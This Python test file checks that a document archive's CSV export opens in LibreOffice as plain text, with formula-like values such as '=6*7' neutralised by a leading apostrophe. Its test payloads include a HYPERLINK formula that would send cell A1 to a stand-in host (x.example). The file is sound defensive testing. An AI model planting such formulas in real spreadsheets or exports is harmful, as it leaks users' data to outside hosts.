"""statements.csv opened in a real spreadsheet: LibreOffice Calc (headless) shows every text cell as the text
it holds, never as a formula or its result, whatever a title, name or label starts with.

One build of the frozen corpus (build_index.py only: the exports need no MkDocs) whose titles, people, an
organisation, a meeting's city and a topic's labels start like formulas (`=6*7`, `=HYPERLINK(…&A1…)`, `+1+1`,
`-2+3`, `@SUM(1,1)`); then LibreOffice opens its CSV, as a user double-clicking it would (comma, UTF-8), and
saves it as a flat OpenDocument spreadsheet (.fods), whose cells are read here: their type, formula and text.
A tab or carriage return cannot start a value (validation strips or refuses them), so cells that do go through
the same writer (`exports.csv_bytes`) into a second file.

LibreOffice comes from Debian (`make libreoffice`, tools/ensure-libreoffice; KP_SOFFICE to choose one);
without it these tests fail under CI and skip elsewhere, as the browser tests do.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
import yaml
from frictionless import validate

from kparchive import exports, offline_search
from kparchive.csvcells import FORMULA_START, neutral, value_of
from kparchive.yamlio import load_yaml

from projects import BRUSSELS_2018, IDEX_2011, KINSHASA_2011, NAMIBIA_2009, VIRTUAL_2021, build_index, make_project

# Builds of its own: the fixture corpus with formula-like values (build_index), its CSV opened in LibreOffice.
pytestmark = pytest.mark.build

HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"click")'  # a live link would send cell A1 to x.example
# Where each payload goes: (file, path of keys, value), and the CSV column and row (statement) it shows in.
PAYLOADS = [
    (f"{NAMIBIA_2009}.yml", ("title",), "=6*7", "title", NAMIBIA_2009),
    (f"{KINSHASA_2011}.yml", ("title",), HYPERLINK, "title", KINSHASA_2011),
    (f"{IDEX_2011}.yml", ("title",), "+1+1", "title", IDEX_2011),
    (f"{BRUSSELS_2018}.yml", ("title",), "-2+3", "title", BRUSSELS_2018),
    (f"{VIRTUAL_2021}.yml", ("title",), "@SUM(1,1)", "title", VIRTUAL_2021),
    # validation strips a title's spaces and tabs: the tab never reaches the CSV, the formula after it does
    (f"{NAMIBIA_2009}.yml", ("people", 0, "name"), "\t=1+1", "person_name", NAMIBIA_2009),
    ("organisations.yml", (1, "name"), "-1+1", "mentions", NAMIBIA_2009),  # global-witness, quoted there
    ("meetings.yml", (0, "city"), "@SUM(2,2)", "meeting_city", NAMIBIA_2009),
    ("topics.yml", (0, "label"), "+2+2", "topic_name", NAMIBIA_2009),  # zimbabwe-marange
    ("topics.yml", (0, "fr", "label"), "=4*4", "topic_name_fr", NAMIBIA_2009),
]
# Cells no metadata can start with, written by the same writer.
CONTROLS = ["\t=1+1", "\r=1+1", "'quoted' =1+1", "=6*7", "plain"]


def soffice_binary() -> str | None:
    """$KP_SOFFICE, else soffice on PATH, else Debian's /usr/bin/soffice (tools/ensure-libreoffice's order)."""
    for candidate in (os.environ.get("KP_SOFFICE"), shutil.which("soffice"), "/usr/bin/soffice"):
        if candidate and Path(candidate).is_file() and os.access(candidate, os.X_OK):
            return candidate
    return None


def _set(data, keys: tuple, value) -> None:
    for key in keys[:-1]:
        data = data[key]
    data[keys[-1]] = value


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory) -> Path:
    """The frozen corpus with the payloads, built by build_index.py into its docs/ (the exports are there)."""
    project = make_project(tmp_path_factory.mktemp("formulas"))
    statements = project / "statements"
    for file, keys, value, _, _ in PAYLOADS:
        path = statements / file
        data = load_yaml(path.read_text("utf-8"))
        _set(data, keys, value)
        path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000), "utf-8")
    result = build_index(project)
    assert result.returncode == 0, result.stderr
    return project


# --- reading what LibreOffice made --------------------------------------------------------------------------

NS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}


def _q(prefix: str, name: str) -> str:
    return f"{{{NS[prefix]}}}{name}"


def _text(element) -> str:
    """A paragraph's text as a spreadsheet shows it: <text:tab/> a tab, <text:s c="n"/> n spaces."""
    out = [element.text or ""]
    for child in element:
        if child.tag == _q("text", "tab"):
            out.append("\t")
        elif child.tag == _q("text", "s"):
            out.append(" " * int(child.get(_q("text", "c"), "1")))
        else:
            out.append(_text(child))
        out.append(child.tail or "")
    return "".join(out)


def cells(fods: Path) -> list[list[dict]]:
    """Each row of the first sheet: each cell's type, formula (if any) and text (paragraphs joined by \\n)."""
    sheet = ET.parse(fods).getroot().find(".//table:table", NS)
    rows = []
    for row in sheet.iter(_q("table", "table-row")):
        out = []
        for cell in row.iter(_q("table", "table-cell")):
            value = {"type": cell.get(_q("office", "value-type")), "formula": cell.get(_q("table", "formula")),
                     "text": "\n".join(_text(p) for p in cell.findall("text:p", NS))}
            out.extend([value] * int(cell.get(_q("table", "number-columns-repeated"), "1")))
        rows.append(out)
    return rows


@pytest.fixture(scope="module")
def opened(poisoned, tmp_path_factory) -> dict[str, tuple[list[list[str]], list[list[dict]]]]:
    """The built statements.csv and the control cells' CSV, each as written and as LibreOffice opened it."""
    binary = soffice_binary()
    if binary is None:
        reason = ("LibreOffice is not installed (`make libreoffice`, as root on Debian: "
                  "apt-get install --no-install-recommends libreoffice-calc-nogui; or set KP_SOFFICE)")
        if os.environ.get("CI"):
            pytest.fail(f"CI must open the CSV in a spreadsheet, but {reason}", pytrace=False)
        pytest.skip(reason)
    folder = tmp_path_factory.mktemp("office")
    shutil.copy2(poisoned / "docs" / "statements.csv", folder / "statements.csv")
    columns = [exports.Column("id", "string", "", None), exports.Column("value", "string", "", None)]
    (folder / "controls.csv").write_bytes(exports.csv_bytes(columns, [[str(i), v] for i, v in enumerate(CONTROLS)]))
    # A profile of its own: no other soffice's lock, nothing of the user's settings.
    result = subprocess.run(
        [binary, f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless", "--norestore",
         "--infilter=CSV:44,34,76,1", "--convert-to", "fods", "--outdir", str(folder),
         str(folder / "statements.csv"), str(folder / "controls.csv")],
        stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=180)
    out = {}
    for name in ("statements", "controls"):
        fods = folder / f"{name}.fods"
        assert fods.is_file(), f"LibreOffice made no {fods.name}:\n{result.stdout}\n{result.stderr}"
        with (folder / f"{name}.csv").open(newline="", encoding="utf-8") as f:
            out[name] = (list(csv.reader(f)), cells(fods))
    return out


def _literal(written: str, shown: dict, where: str, text: bool = True) -> None:
    """The cell shows what was written, as no formula (and, `text`, as text: a number-like name such as a
    year's may open as a number, which is no formula either)."""
    assert shown["formula"] is None, f"{where}: {written!r} opened as the formula {shown['formula']!r}"
    assert shown["type"] == "string" or not text, f"{where}: {written!r} opened as a {shown['type']}"
    assert shown["text"] == written.replace("\r\n", "\n").replace("\r", "\n"), where


# --- the tests ---------------------------------------------------------------------------------------------

def test_every_text_cell_opens_as_the_text_written(opened):
    rows, shown = opened["statements"]
    header = rows[0]
    types = {column.name: column.type for column in exports.COLUMNS}
    assert header == list(types)
    for r, row in enumerate(rows[1:], start=1):
        for c, written in enumerate(row):
            if types[header[c]] == "string" and written:
                _literal(written, shown[r][c], f"{row[0]}: {header[c]}", text=False)


@pytest.mark.parametrize(("value", "column", "sid"), [(p[2], p[3], p[4]) for p in PAYLOADS],
                         ids=[f"{p[3]}-{p[2]!r}" for p in PAYLOADS])
def test_a_value_that_starts_like_a_formula_opens_as_text(opened, value, column, sid):
    rows, shown = opened["statements"]
    header = rows[0]
    r = next(i for i, row in enumerate(rows) if row[0] == sid)
    c = header.index(column)
    cell = rows[r][c]
    _literal(cell, shown[r][c], f"{sid}: {column}")
    assert cell.startswith("'") and cell[1:].startswith(FORMULA_START), cell
    assert value.strip() in value_of(cell).split(exports.LIST_SEPARATOR), (value, cell)  # as validation keeps it


def test_numbers_dates_and_booleans_stay_typed(opened):
    """The rule is for text: `words` and `year` open as numbers, `date` as a date, whatever the titles hold."""
    rows, shown = opened["statements"]
    header = rows[0]
    for r in range(1, len(rows)):
        assert shown[r][header.index("words")]["type"] == "float"
        assert shown[r][header.index("year")]["type"] == "float"
        assert shown[r][header.index("date")]["type"] == "date"
        assert rows[r][header.index("meeting_virtual")] in ("true", "false")


def test_cells_no_metadata_can_hold_open_as_text_too(opened):
    rows, shown = opened["controls"]
    assert [value_of(row[1]) for row in rows[1:]] == CONTROLS
    for r, row in enumerate(rows[1:], start=1):
        _literal(row[1], shown[r][1], repr(CONTROLS[r - 1]))


def test_the_json_exports_keep_the_true_value(poisoned):
    docs = poisoned / "docs"
    records = {r["id"]: r for r in json.loads((docs / "statements.json").read_text("utf-8"))}
    with (docs / "statements.csv").open(newline="", encoding="utf-8") as f:
        rows = {row["id"]: row for row in csv.DictReader(f)}
    for *_, value, _, sid in PAYLOADS[:5]:
        assert records[sid]["title"] == value
        assert json.loads((docs / "statements" / f"{sid}.json").read_text("utf-8"))["title"] == value
        assert rows[sid]["title"] == "'" + value and value_of(rows[sid]["title"]) == value


def test_the_data_package_still_validates_and_states_the_rule(poisoned):
    docs = poisoned / "docs"
    report = validate(str(docs / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    package = json.loads((docs / "datapackage.json").read_text("utf-8"))
    csv_resource = next(r for r in package["resources"] if r["path"] == "statements.csv")
    assert "apostrophe" in csv_resource["description"]


def test_the_data_page_says_how_in_both_languages(poisoned):
    """The paragraph is on the data page of each tree (its fragment: MkDocs only wraps it), in its language."""
    fragments = poisoned / "overrides" / "generated"
    english = (fragments / "data.html").read_text("utf-8")
    french = (fragments / "fr" / "data.html").read_text("utf-8")
    assert 'id="formulas"' in english and "remove one leading apostrophe" in english
    assert 'id="formulas"' in french and "retirez-lui une apostrophe initiale" in french


def test_the_rule_reverses_exactly():
    """Removing one leading apostrophe gives every value back, one that starts with an apostrophe too."""
    for value in ["=6*7", "+1", "-2", "@x", "\tx", "\rx", "'x", "''", "plain", "", "x=1", " =1"]:
        assert value_of(neutral(value)) == value
        assert not neutral(value).startswith(FORMULA_START)
    assert neutral("plain") == "plain" and neutral("x=1") == "x=1"


def test_the_offline_search_reads_the_values(poisoned):
    """kparchive.offline_search reads the CSV for its results' titles and meetings: the values, not the cells."""
    found = offline_search.build(poisoned / "docs", offline_search.METADATA)
    titles = {title for _, title, _, _ in found["statements"]}
    assert {"=6*7", HYPERLINK, "+1+1", "-2+3", "@SUM(1,1)"} <= titles
